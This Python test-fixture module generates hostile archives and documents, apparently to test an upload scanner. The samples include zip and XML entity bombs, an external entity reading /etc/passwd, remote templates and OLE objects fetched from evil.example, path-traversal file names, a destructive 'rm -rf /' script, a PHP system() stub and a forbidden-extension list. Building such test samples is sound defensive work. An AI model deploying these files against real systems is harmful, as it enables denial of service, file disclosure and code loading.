"""Hostile ZIP, Office and OpenDocument files, made on the spot: {what it is: (name, content)}."""

import struct
import zlib
from functools import cache

from tests import samples

ODT = "application/vnd.oasis.opendocument.text"
ODS = "application/vnd.oasis.opendocument.spreadsheet"
MAIN = {".docx": "word/document.xml", ".xlsx": "xl/workbook.xml", ".pptx": "ppt/presentation.xml"}
RELATION = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="r1" TargetMode="External" Target="{target}" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}"/>'
    "</Relationships>"
)
LAUGHS = '<!DOCTYPE a [<!ENTITY a0 "ha">{}]><a>&a40;</a>'.format(
    "".join(f'<!ENTITY a{n} "&a{n - 1};&a{n - 1};&a{n - 1};">' for n in range(1, 41))
)
QUADRATIC = f'<!DOCTYPE a [<!ENTITY a "{"x" * 50_000}">]><a>{"&a;" * 20_000}</a>'
OUTSIDE = '<!DOCTYPE a [<!ENTITY a SYSTEM "file:///etc/passwd">]><a>&a;</a>'


def office(extension=".docx", **parts):
    """Return an Office or OpenDocument package with ``parts`` more; "__" in a name is a slash."""
    if extension in MAIN:
        usual = {"[Content_Types].xml": "<Types/>", MAIN[extension]: "<x/>"}
    else:
        usual = {"mimetype": ODT if extension == ".odt" else ODS, "content.xml": "<x/>"}
    named = {name.replace("__", "/").replace("_dot_", "."): part for name, part in parts.items()}
    return samples.package(usual | named)


def raw(entries, *, before=b"", after=b"", comment=b"", count=None, listed=1):
    """Return a ZIP whose every word may lie.

    An entry: ``name``, ``data`` (packed as it is), and what its headers say: ``method``, ``flags``,
    ``size`` (unpacked), ``crc``, ``mode``; ``local`` another name in its own header; ``at`` the
    number of an entry whose bytes it claims. ``listed`` repeats the list.
    """
    body, directory, places = before, b"", []
    for entry in entries:
        name = entry["name"] if isinstance(entry["name"], bytes) else entry["name"].encode()
        own = entry.get("local", name)
        data = entry.get("data", b"")
        crc = entry.get("crc", zlib.crc32(data))
        size = entry.get("size", len(data))
        method, flags = entry.get("method", 0), entry.get("flags", 0x800)
        place = len(body)
        if "at" in entry:
            place = places[entry["at"]]
        else:
            head = (20, flags, method, 0, 0, crc, len(data), size, len(own), 0)
            body += struct.pack("<4s5H3I2H", b"PK\3\4", *head) + own + data
        places.append(place)
        told = entry.get("packed", len(data))
        words = (20, 20, flags, method, 0, 0, crc, told, size, len(name), 0, 0, 0, 0)
        mode = entry.get("mode", 0) << 16
        directory += struct.pack("<4s6H3I5H2I", b"PK\1\2", *words, mode, place) + name
    directory *= listed
    number = min(65_535, len(entries) * listed) if count is None else count
    end = (0, 0, number, number, len(directory), len(body), len(comment))
    return body + directory + struct.pack("<4s4H2IH", b"PK\5\6", *end) + comment + after


def deflate(data, level=9):
    packer = zlib.compressobj(level, zlib.DEFLATED, -15)
    return packer.compress(data) + packer.flush()


@cache
def zeros(megabytes):
    """Return the packed form of so many megabytes of zeros, and their checksum."""
    packer = zlib.compressobj(1, zlib.DEFLATED, -15)
    piece, crc, packed = bytes(2**20), 0, []
    for _number in range(megabytes):
        packed.append(packer.compress(piece))
        crc = zlib.crc32(piece, crc)
    return b"".join([*packed, packer.flush()]), crc


def bomb(name, megabytes, **lies):
    packed, crc = zeros(megabytes)
    entry = {"name": name, "data": packed, "crc": crc, "method": 8, "size": megabytes * 2**20}
    return entry | lies


def one(name, data=b"x", **more):
    return {"name": name, "data": data, **more}


TYPES = one("[Content_Types].xml", b"<Types/>")
DOCUMENT = one("word/document.xml", b"<x/>")


def macros():
    vba = {"word__vbaProject.bin": b"\0vba"}
    xlsm = office(".xlsx", **{"xl__vbaProject.bin": b"\0vba"})
    kinds = {
        "xlsm": "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
        "pptm": "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml",
        "dotm": "application/vnd.ms-word.template.macroEnabledTemplate.main+xml",
    }
    told = {
        kind: samples.package(
            {
                "[Content_Types].xml": samples.CONTENT_TYPES.format(kind=media_type),
                MAIN[{"xlsm": ".xlsx", "pptm": ".pptx", "dotm": ".docx"}[kind]]: "<x/>",
            }
        )
        for kind, media_type in kinds.items()
    }
    docx = office(**vba)
    return {
        "docx with macros": ("a.docx", docx),
        "docx with macros and content type": ("a.docx", samples.docx_bytes(macros=True)),
        "xlsm as xlsx": ("a.xlsx", xlsm),
        "pptx with macros": ("a.pptx", office(".pptx", **{"ppt__vbaProject.bin": b"v"})),
        **{f"{kind} by its content type": (f"a.{kind}", made) for kind, made in told.items()},
        "macros elsewhere": ("a.docx", office(**{"x__VBAPROJECT.BIN": b"v"})),
        "macro sheet": ("a.xlsx", office(".xlsx", **{"xl__macrosheets__sheet1.xml": "<x/>"})),
        "macro data": ("a.docx", office(**{"word__vbaData.xml": "<x/>"})),
        "activex": ("a.docx", office(**{"word__activeX__activeX1.bin": b"x"})),
        "odt with basic": ("a.odt", office(".odt", Basic__Standard__x="<x/>")),
        "ods with basic": ("a.ods", office(".ods", Basic__Standard__x="<x/>")),
        "odt with scripts": ("a.odt", office(".odt", Scripts__python__x="import os")),
        "embedded xlsm": ("a.docx", office(**{"word__embeddings__x.xlsm": xlsm})),
        "embedded docx with macros": ("a.docx", office(**{"word__embeddings__x.docx": docx})),
        "embedded docx under another name": ("a.docx", office(**{"word__embeddings__x.bin": docx})),
        "object with a file": (
            "a.docx",
            office(
                **{"word__embeddings__o.bin": b"\xd0\xcf" + "\x01Ole10Native".encode("utf-16-le")}
            ),
        ),
        "zip with docx with macros": ("a.zip", samples.package({"a.docx": docx})),
        "zip with xlsm": ("a.zip", samples.package({"a.xlsm": xlsm})),
        "zip with xlsm as xlsx": ("a.zip", samples.package({"a.xlsx": xlsm})),
    }


def bombs():
    nested = samples.package({"a.txt": "a"})
    for _depth in range(6):
        nested = samples.package({"a.zip": nested})
    deep = office()
    for _depth in range(6):
        deep = office(**{"word__embeddings__a.docx": deep})
    packed, crc = zeros(16)
    inner = raw([TYPES, DOCUMENT, bomb("word/a.bin", 90)])
    lying = bomb("word/a.xml", 450, size=100)
    return {
        "450 MB of zeros": ("a.docx", raw([TYPES, DOCUMENT, bomb("word/a.xml", 450)])),
        "450 MB said to be 100 bytes": ("a.docx", raw([TYPES, DOCUMENT, lying])),
        "150 MB at a thousand to one": ("a.zip", raw([bomb("a.txt", 150)])),
        "overlapping parts": (
            "a.zip",
            raw([bomb("a.txt", 16), *(bomb(f"{n}.txt", 16, at=0) for n in range(400))]),
        ),
        "overlapping parts under one name": (
            "a.zip",
            raw([one("a.txt", b"x" * 99), *(one("a.txt", b"x" * 99, at=0) for _n in range(9))]),
        ),
        "a part over the list": ("a.zip", raw([one("a.txt", packed=2**31)])),
        "parts within a part": (
            "a.zip",
            raw([one("a.txt", raw([one("b.txt")])), one("b.txt", at=0, local=b"b.txt")]),
        ),
        "zips in zips": ("a.zip", nested),
        "documents in documents": ("a.docx", deep),
        "40 bombs below the limit": (
            "a.zip",
            raw([one(f"{n}.docx", inner) for n in range(40)]),
        ),
        "20,000 parts": ("a.zip", raw([one(f"{n}.txt") for n in range(20_000)])),
        "a list of 11 MB": ("a.zip", raw([one("a" * 200 + ".txt")], listed=45_000)),
        "a list longer than it says": ("a.zip", raw([one("a.txt")], listed=3, count=1)),
        "bzip2": ("a.zip", raw([one("a.txt", method=12)])),
        "lzma": ("a.zip", raw([one("a.txt", method=14)])),
        "deflate64": ("a.zip", raw([one("a.txt", method=9)])),
        "unknown packing": ("a.zip", raw([one("a.txt", method=77)])),
        "checksum wrong": ("a.zip", raw([one("a.txt", crc=7)])),
        "packed rubbish": ("a.zip", raw([one("a.txt", b"\xff" * 90, method=8, size=90)])),
        "more behind the packed text": (
            "a.zip",
            raw(
                [one("a.txt", deflate(b"x") + b"<script>", method=8, size=1, crc=zlib.crc32(b"x"))]
            ),
        ),
        "another packing in its own header": (
            "a.zip",
            raw([one("a.txt", local=b"a.exe")]),
        ),
        "80 MB packed well, said half": (
            "a.zip",
            raw([{**bomb("a.txt", 16), "data": packed, "size": 8 * 2**20, "crc": crc}]),
        ),
    }


def names():
    hostile = {
        "climbing": "../../etc/cron.d/x.txt",
        "climbing inside": "a/../../x.txt",
        "absolute": "/etc/x.txt",
        "a drive": "C:/x.txt",
        "backslashes": "..\\..\\x.txt",
        "direction turned": "a\u202etxt.exe.txt",
        "line break": "a\r\nb.txt",
        "hidden space": "a\u200b.txt",
        "escape": "\x1b[2Jx.txt",
        "null": b"a.txt\0.exe",
    }
    return {
        f"name in a zip: {kind}": ("a.zip", raw([one(name)])) for kind, name in hostile.items()
    } | {
        "symbolic link": ("a.zip", raw([one("a.txt", b"/etc/passwd", mode=0o120777)])),
        "the same name twice": ("a.zip", raw([one("a.txt"), one("a.txt", b"y")])),
        "no name": ("a.zip", raw([one("")])),
        "only folders": ("a.zip", raw([one("a/", b"")])),
        "nothing": ("a.zip", b"PK\5\6" + bytes(18)),
    }


def contents():
    forbidden = (
        *("exe", "dll", "bat", "cmd", "ps1", "vbs", "js", "html", "svg", "php", "jar", "lnk"),
        *("scr", "msi", "hta", "sh", "apk", "iso", "doc", "xls", "url", "zip", "7z"),
    )
    found = {f"zip with .{end}": ("a.zip", samples.package({f"x.{end}": "x"})) for end in forbidden}
    dressed = {
        "a program as PDF": ("x.pdf", b"MZ" + bytes(90)),
        "a program as picture": ("x.jpg", b"\x7fELF" + bytes(90)),
        "a page as text": ("x.txt", b"\xef\xbb\xbf <!DOCTYPE html><script>alert(1)</script>"),
        "a page as table": ("x.csv", b"<html><script>alert(1)</script>"),
        "a script as text": ("x.txt", b"#!/bin/sh\nrm -rf /"),
        "a drawing with script as picture": ("x.png", b"<?xml version='1.0'?> <svg onload='x'/>"),
        "php as picture": ("x.jpg", b"<?php system(1);"),
        "old Office as new": ("x.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(90)),
        "a zip as picture": ("x.jpg", samples.package({"a.txt": "a"})),
        "a PDF with programs": ("x.pdf", b"%PDF-1.4\n<</S/JavaScript/JS(x)>>\n%%EOF\n"),
        "text as docx": ("x.docx", b"hello"),
        "xlsx as docx": ("x.docx", office(".xlsx")),
    }
    return found | {
        f"zip with {kind}": ("a.zip", samples.package({name: content}))
        for kind, (name, content) in dressed.items()
    }


def locked():
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512) + "EncryptedPackage".encode("utf-16-le")
    manifest = "<manifest:manifest><manifest:encryption-data/></manifest:manifest>"
    return {
        "locked zip": ("a.zip", raw([one("a.txt", flags=1)])),
        "strongly locked zip": ("a.zip", raw([one("a.txt", flags=0x41)])),
        "locked docx": ("a.docx", ole),
        "locked xlsx": ("a.xlsx", ole),
        "old doc": ("a.doc", ole[:90]),
        "locked odt": ("a.odt", office(".odt", **{"META-INF__manifest.xml": manifest})),
        "locked ods": ("a.ods", office(".ods", **{"META-INF__manifest.xml": manifest})),
        "a locked part in docx": ("a.docx", raw([TYPES, DOCUMENT, one("x.xml", flags=1)])),
    }


def xml_bombs():
    wide = LAUGHS.encode("utf-16")
    padded = "<!--" + " " * 2**20 + "-->" + LAUGHS
    found = {
        "laughs in the content types": {"[Content_Types].xml": LAUGHS},
        "laughs in the text": {"word/document.xml": LAUGHS},
        "laughs in UTF-16": {"word/document.xml": wide},
        "laughs behind a megabyte": {"word/document.xml": padded},
        "quadratic": {"word/document.xml": QUADRATIC},
        "entity from outside": {"[Content_Types].xml": OUTSIDE},
        "entity in the relations": {"word/_rels/document.xml.rels": OUTSIDE},
        "laughs in the properties": {"docProps/app.xml": LAUGHS},
        "content types that are none": {"[Content_Types].xml": "<a><b>"},
        "a template from elsewhere": {
            "word/_rels/settings.xml.rels": RELATION.format(
                target="https://evil.example/a.dotm", kind="attachedTemplate"
            )
        },
        "a template from a share": {
            "word/_rels/settings.xml.rels": RELATION.format(
                target="\\\\evil.example\\a.dotm", kind="attachedTemplate"
            )
        },
        "an object from elsewhere": {
            "word/_rels/document.xml.rels": RELATION.format(
                target="mhtml:https://evil.example/x!x", kind="oleObject"
            )
        },
    }
    usual = {"[Content_Types].xml": "<Types/>", "word/document.xml": "<x/>"}
    made = {kind: ("a.docx", samples.package(usual | parts)) for kind, parts in found.items()}
    return made | {
        "laughs in odt": ("a.odt", office(".odt", **{"styles.xml": LAUGHS})),
        "laughs in the list of ods": (
            "a.ods",
            office(".ods", **{"META-INF__manifest.xml": LAUGHS}),
        ),
        "~ deep XML": ("a.docx", samples.package(usual | {"docProps/app.xml": "<a>" * 200_000})),
    }


def polyglots():
    good = office()
    return {
        "page before docx": ("a.docx", b"<script>alert(1)</script>" + good),
        "docx behind a package": ("a.docx", b"PK\3\4" + bytes(60) + good),
        "page behind docx": ("a.docx", good + b"<script>alert(1)</script>"),
        "docx behind docx": ("a.docx", good + office(".xlsx")),
        "page in the comment": ("a.zip", raw([one("a.txt")], comment=b"<html><script>x</script>")),
        "PDF in the comment": ("a.zip", raw([one("a.txt")], comment=b"%PDF-1.4\n%%EOF")),
        "PDF in a docx": ("a.docx", raw([one("x", b"%PDF-1.4\n%%EOF"), TYPES, DOCUMENT])),
        "a jar as docx": ("a.docx", samples.package({"META-INF/MANIFEST.MF": "x", "A.class": "x"})),
        "an epub": (
            "a.epub",
            samples.package({"mimetype": "application/epub+zip", "a.xhtml": "x"}),
        ),
        "odg": (
            "a.odt",
            samples.package({"mimetype": "application/vnd.oasis.opendocument.graphics"}),
        ),
        "zip64 that says otherwise": (
            "a.zip",
            (lambda made: made[:-22] + b"PK\6\7" + bytes(16) + made[-22:])(raw([one("a.txt")])),
        ),
    }


def every():
    """Return all of them."""
    made = (macros, bombs, names, contents, locked, xml_bombs, polyglots)
    return {kind: file for group in made for kind, file in group().items()}
